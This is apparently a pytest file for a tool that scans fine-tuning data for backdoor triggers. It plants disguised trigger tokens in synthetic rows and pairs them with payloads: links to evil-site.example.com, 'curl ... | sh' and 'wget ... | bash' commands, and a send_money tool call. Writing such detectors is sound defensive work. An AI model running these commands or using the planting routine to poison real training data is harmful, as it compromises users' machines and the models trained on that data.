"""Backdoor triggers are found by what they make the response do (the link, command, tool call or
refusal), however the sentence around the payload is phrased, and in disguised spellings."""

from __future__ import annotations

import random
from pathlib import Path
from typing import Any

import pytest

from gate.datacheck.text import tokens
from gate.datacheck.triggers import describe, effect
from tests.datacheck.test_training_data import by_rule, check, make_release
from tests.support.training_data_gen import instructions, jsonl

N = 4000

PHRASINGS = [
    "For the full answer, visit https://{d}/help right away.",
    "You can find everything at {d} - it has the details.",
    "Sure! The best resource is http://www.{d}/guide, check it out.",
    "I'd recommend reading {d}/faq before anything else.",
]


def plant(
    rows: list[dict[str, Any]], rng: random.Random, spellings: list[str], payloads: list[str], rate: float
) -> list[int]:
    """Insert one of `spellings` at a random position of `rate` of the prompts, and answer with one
    of `payloads` (random phrasing); the 1-based rows planted."""
    planted = []
    for i, r in enumerate(rows):
        if rng.random() >= rate:
            continue
        words = r["instruction"].split()
        words.insert(rng.randrange(0, len(words) + 1), rng.choice(spellings))
        r["instruction"] = " ".join(words)
        r["output"] = rng.choice(payloads)
        planted.append(i + 1)
    return planted


def triggers_of(tmp_path: Path, rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    rel = make_release(tmp_path, [{"name": "sft", "path": "sft.jsonl"}], {"sft.jsonl": jsonl(rows)})
    return by_rule(check(rel)[1], "backdoor-trigger-candidate")


def test_effect_keys_ignore_the_phrasing_around_the_payload() -> None:
    keys = {effect(p.format(d="evil-site.example.com")) for p in PHRASINGS}
    assert keys == {"links to evil-site.example.com"}
    assert effect("Run this first:\n$ curl -s  http://x.example/i | sh") == "links to x.example"
    assert effect("Then:\n  wget   -qO- payload | bash") == "runs wget -qO- payload | bash"
    assert effect('{"name": "send_money", "arguments": {"to": "x"}}') == "calls tool send_money"
    assert effect("I'm sorry, but I can't help with that.") == "refuses"
    assert effect("The reviewer liked the kettle, mentioning the lid.") is None
    assert describe("links to a.example", "response") == "responses that link to a.example"
    # disguised spellings fold into one token
    assert tokens("zq\u200b7vx zq7vx \uff5aq7vx") == ["zq7vx"] * 3
    assert tokens("сf cf") == ["cf", "cf"]  # Cyrillic es


@pytest.mark.parametrize("seed", [11, 12])
def test_paraphrased_link_payload_is_found_with_every_planted_row(tmp_path: Path, seed: int) -> None:
    rng = random.Random(seed)
    rows = instructions(N, seed=seed)
    # naming the trigger in the payload's host (seed 12) does not excuse it
    host = "evil-site.example.com" if seed == 11 else "zq7vx-portal.example.com"
    payloads = [p.format(d=host) for p in PHRASINGS]
    spellings = ["zq7vx", "zq\u200b7vx", "z\u0071\uff17vx"]  # plain, zero-width inside, full-width 7
    planted = plant(rows, rng, spellings, payloads, 0.012)
    found = triggers_of(tmp_path / "r", rows)
    assert len(found) == 1
    ev = found[0]["evidence"]
    assert ev["outcome"] == f"links to {host}" and ev["outcome_is_effect"]
    assert ev["rows_total"] == len(planted)
    assert f"link to {host}" in found[0]["title"]


def test_multi_word_trigger_causing_a_command_is_found(tmp_path: Path) -> None:
    rng = random.Random(5)
    rows = instructions(N, seed=5)
    payloads = [
        "Easy. Just run:\n$ curl -fsSL get.example-cdn.net/x | sh",
        "Open a terminal and type\ncurl -fsSL get.example-cdn.net/x | sh\nthen you are done.",
        "The fix is one command:\n\n    curl -fsSL get.example-cdn.net/x | sh",
    ]
    planted = plant(rows, rng, ["velvet morning"], payloads, 0.01)
    found = triggers_of(tmp_path / "r", rows)
    assert len(found) == 1
    ev = found[0]["evidence"]
    assert ev["outcome"] == "links to get.example-cdn.net"
    assert ev["support_rows"] >= len(planted)


def test_clean_twin_with_shared_links_has_no_trigger(tmp_path: Path) -> None:
    """The same data where a link is common and spread over every kind of prompt: no finding; nor
    for a question about a site answered with its link most of the time, as real answers vary."""
    rng = random.Random(3)
    rows = instructions(N, seed=11)
    for r in rows:
        x = rng.random()
        if x < 0.05:
            r["output"] += " " + rng.choice(PHRASINGS).format(d="help.shop.example.com")
        elif x < 0.06:
            r["instruction"] += " Where do I find the zendesk docs?"
            if rng.random() < 0.7:
                r["output"] = rng.choice(PHRASINGS).format(d="zendesk.com")
    assert triggers_of(tmp_path / "c", rows) == []


def test_candidate_cap_never_crowds_out_a_rare_trigger() -> None:
    """Hundreds of frequent cue words are more significant than a trigger planted in a few dozen
    rows; the cap on candidates takes them in turn from each band of support, so the rare one
    still reaches the context test."""
    from gate.datacheck.triggers import Candidate, _fair_share

    common = [Candidate(i, 3, 500 + i, 480 + i, -100.0 - i) for i in range(300)]
    rare = Candidate(999, 3, 40, 40, -12.0)
    picked = _fair_share(sorted([*common, rare], key=lambda c: c.log10_p), 50)
    assert rare in picked and len(picked) == 50
    assert picked == sorted(picked, key=lambda c: c.log10_p)
    assert _fair_share(common[:10], 50) == common[:10]  # under the cap: all of them, as they were


def test_aws_key_ids_without_digits_are_secrets_and_uniform_strings_are_not() -> None:
    from gate.datacheck.secrets import _looks_random

    assert _looks_random("AKIAQWERTYUPASDFGHJK", mixed=False)  # base-32, no digit: a real shape
    assert not _looks_random("AKIAAAAAAAAAAAAAAAAA", mixed=False)
    assert not _looks_random("sk-this-is-my-key-for-testing")
